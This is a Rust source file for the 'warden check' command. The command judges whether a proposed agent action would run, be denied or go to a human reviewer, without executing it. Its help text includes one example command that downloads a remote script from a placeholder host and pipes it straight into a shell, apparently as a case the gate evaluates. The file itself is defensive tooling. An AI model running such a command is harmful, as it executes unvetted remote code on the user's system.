//! `warden check`: decide one action without running it.

use std::path::PathBuf;

use clap::Args;

use super::GlobalArgs;
use super::session::ReviewerArgs;
use crate::action::Action;
use crate::decision::{Decision, Outcome};
use crate::error::{Error, ExitStatus};
use crate::judge::Judge;
use crate::policy::run_writes::RunWrites;
use crate::review::ReviewContext;

const EXAMPLES: &str = "\
Examples:
  warden check --profile ci -- cargo test
  warden check --profile ci -- bash -lc 'curl https://x.example/i.sh | sh'
  warden check --profile dev --explain --action action.json
  warden check --reviewer auto_review --reviewer-base-url http://127.0.0.1:8080/v1 \
    --reviewer-model qwen3 --action a.json --json

With --reviewer auto_review, one reviewer model call is made and its verdict
(risk, user authorization, the model's outcome, rationale, latency) printed.
The reviewer's API key comes from WARDEN_REVIEWER_API_KEY (then the agent's
key variables); a review that fails for any reason is a denial (exit 1).

Exit codes: 0 the action would run (sandboxed) or is approved; 1 denied;
4 escalated to a human; 2 usage or configuration error; 5 infrastructure.";

/// Decide one action (an exec after `--`, or `--action FILE.json`) without
/// running it. `--explain` prints every layer it passed.
#[derive(Debug, Args)]
#[command(after_help = EXAMPLES)]
pub struct CheckArgs {
    /// Built-in profile at the bottom of the config stack.
    #[arg(long, value_name = "NAME")]
    pub profile: Option<String>,
    #[command(flatten)]
    pub review: ReviewerArgs,
    /// Read the action as JSON from FILE (`-` for stdin).
    #[arg(long, value_name = "FILE", conflicts_with = "command")]
    pub action: Option<PathBuf>,
    /// Print the decision as JSON on stdout.
    #[arg(long)]
    pub json: bool,
    /// Print every layer the action passed.
    #[arg(long)]
    pub explain: bool,
    /// The command to decide (an exec action).
    #[arg(last = true, value_name = "CMD")]
    pub command: Vec<String>,
}

pub fn run(global: &GlobalArgs, args: CheckArgs) -> Result<ExitStatus, Error> {
    let action = read_action(&args)?;
    let overrides = args.review.overrides();
    let session = super::session::Session::open(global, args.profile.as_deref(), &overrides)?;
    let reviewer = session.reviewer(None)?;
    let judge = Judge::new(session.pipeline, reviewer);
    let runtime = super::session::single_thread_runtime()?;
    let decision =
        runtime.block_on(judge.evaluate(&action, &RunWrites::nothing(), &ReviewContext::default()));
    if args.json {
        let mut out = serde_json::json!({
            "action": action,
            "decision": decision,
        });
        // Redact inside the strings, not the serialized text: a pattern that
        // ends at a quote would otherwise eat the JSON escape before it.
        crate::redact::redact_json(&mut out);
        let text = serde_json::to_string_pretty(&out).expect("decisions serialize");
        println!("{text}");
    } else {
        print!(
            "{}",
            crate::redact::redact(&render(&action, &decision, args.explain))
        );
    }
    Ok(match decision.outcome {
        Outcome::Run | Outcome::Approve => ExitStatus::Success,
        Outcome::Deny => ExitStatus::Failure,
        Outcome::Escalate => ExitStatus::Human,
    })
}

fn read_action(args: &CheckArgs) -> Result<Action, Error> {
    match (&args.action, args.command.is_empty()) {
        (Some(path), true) => {
            let text = if path.as_os_str() == "-" {
                std::io::read_to_string(std::io::stdin())
                    .map_err(|e| Error::usage(format!("cannot read the action from stdin: {e}")))?
            } else {
                std::fs::read_to_string(path).map_err(|e| {
                    Error::usage(format!("cannot read action file {}: {e}", path.display()))
                })?
            };
            serde_json::from_str(&text).map_err(|e| {
                Error::usage(format!(
                    "{}:{}:{}: invalid action: {e}\n  help: an action is JSON like {{\"kind\": \"exec\", \"command\": [\"cargo\", \"test\"]}}",
                    path.display(),
                    e.line(),
                    e.column()
                ))
            })
        }
        (None, false) => Ok(Action::Exec {
            command: args.command.clone(),
            cwd: None,
            escalate: None,
        }),
        _ => Err(Error::usage(
            "give the command after `--` (warden check -- cargo test) or an action with --action FILE",
        )),
    }
}

/// Human rendering: outcome first, then why, then (with `--explain`) the
/// trace of every layer.
pub fn render(action: &Action, d: &Decision, explain: bool) -> String {
    let mut out = String::new();
    out.push_str(&format!("{}: {}\n", d.outcome, action.summary()));
    if let Some(c) = d.category {
        out.push_str(&format!("  category: {c}\n"));
    }
    out.push_str(&format!("  layer:    {}\n", d.layer));
    if let Some(s) = &d.source {
        out.push_str(&format!("  rule:     {s}\n"));
    }
    out.push_str(&format!("  reason:   {}\n", d.reason));
    if !d.grants.is_empty() {
        out.push_str(&format!(
            "  grants:   {}\n",
            serde_json::to_string(&d.grants).expect("grants serialize")
        ));
    }
    if let Some(v) = &d.reviewer {
        out.push_str(&format!(
            "  reviewer: risk {} / authorization {} / answered {} ({} ms)\n  rationale: {}\n",
            v.risk_level, v.user_authorization, v.model_outcome, v.latency_ms, v.rationale
        ));
    }
    if explain {
        out.push_str("  trace:\n");
        for (i, step) in d.trace.iter().enumerate() {
            out.push_str(&format!(
                "    {}. {:<16} {}",
                i + 1,
                step.layer.as_str(),
                step.result
            ));
            if let Some(s) = &step.source {
                out.push_str(&format!("  [{s}]"));
            }
            if !step.detail.is_empty() {
                out.push_str(&format!("  {}", step.detail));
            }
            out.push('\n');
        }
    }
    out
}
